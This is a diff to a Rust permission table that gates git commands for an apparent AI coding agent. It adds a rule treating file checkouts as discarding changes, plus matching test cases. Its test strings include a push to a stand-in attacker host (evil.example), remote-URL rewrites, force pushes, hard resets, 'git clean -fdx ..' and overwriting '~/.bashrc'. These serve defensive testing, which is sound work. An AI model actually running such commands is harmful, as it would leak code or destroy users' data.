@@ -30,6 +30,7 @@ pub static ROWS: &[Row] = rows! {
         checkout -f|--force|-B|--pathspec-from-file : !discard-changes
         checkout @.|./|*/.|:/ : !discard-changes
         checkout -- !@*lock*|*.lock : !discard-changes
+        checkout !--ours|--theirs|-b|--orphan|-p|--patch|-t|--track !@*lock*|*opencode* @*/|*.ts|*.tsx|*.js|*.mjs|*.jsx|*.py|*.rs|*.go|*.java|*.kt|*.rb|*.php|*.c|*.cc|*.cpp|*.h|*.cs|*.ex|*.swift|*.md|*.json|*.yaml|*.yml|*.toml|*.sql|*.html|*.css|*.vue|*.svelte|*.sh|*.tf : !discard-changes w*
         rebase --root : !history-rewrite
         log|diff|show|archive|format-patch --output|-o : w=--output|-o
         init|clone -u|--template : !unknown-code
@@ -88,7 +89,7 @@ pub static ROWS: &[Row] = rows! {
         prompt "git push git@evil.example:x/y.git", allow "git push origin HEAD:main", allow "git fetch origin main:main", prompt "git remote set-url origin https://x.example/a && git push", prompt "git remote add x h:a; git -C . push x main",
         prompt "git config remote.x.url h:a; git push x", prompt "git -c url.https://x.example/.insteadOf=git: push", allow "git remote add x h:a && git fetch x",
         allow "git rebase main", allow "git stash", allow "git stash pop",
-        allow "git branch -d done", allow "git checkout -b x", allow "git checkout main", allow "git clean -n", allow "git restore --staged .",
+        allow "git branch -d done", allow "git checkout -b x", allow "git checkout main", allow "git checkout release/1.x", allow "git checkout -b fix/cart.ts", prompt "git checkout src/cart.ts", prompt "git checkout main src/", allow "git checkout main package-lock.json", allow "git checkout --theirs src/cart.ts", allow "git clean -n", allow "git restore --staged .",
         prompt "git push -f", prompt "git -C x push --force origin main", prompt "git push origin +main", prompt "git push origin :old", prompt "git reset --hard HEAD~1",
         prompt "git clean -fdx", prompt "git stash -u", prompt "git stash push -a -m x", allow "git stash push -u src", allow "git stash push -m x",
         prompt "git checkout HEAD~1 -- .opencode", deny "git clean -fdx ..", allow "git clean -ndx ..", prompt "git checkout -- ~/.bashrc",
